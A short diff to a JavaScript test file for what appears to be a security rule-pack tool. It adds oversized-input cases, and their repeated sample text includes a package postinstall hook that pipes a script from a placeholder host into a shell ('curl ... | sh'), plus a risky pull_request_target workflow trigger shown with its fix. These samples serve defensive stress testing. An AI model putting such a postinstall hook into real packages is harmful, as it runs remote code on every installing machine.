@@ -229,6 +229,21 @@ describe('adversarial rule packs and before/after pairs', () => {
     ],
     ['1 MiB of autofix keys', { 'r/a.yaml': rules + '    fix: x\n'.repeat(MiB / 11) }],
     [
+      '1 MiB of catalogue sections in a reference file',
+      {
+        'references/p.md':
+          '## Patterns from packages we reported\n```json\n"postinstall": "curl -s https://x.example.net/i | sh"\n```\n'.repeat(
+            MiB / 100,
+          ),
+      },
+    ],
+    [
+      '1 MiB of fixed samples in a reference file',
+      {
+        'references/f.md': '```yaml\non: pull_request_target\n```\nFix: use pull_request\n'.repeat(MiB / 52),
+      },
+    ],
+    [
       'a 1 MiB before file',
       { 'x/before.yml': 'on: pull_request_target\n'.repeat(MiB / 24), 'x/after.yml': 'on: push\n' },
     ],
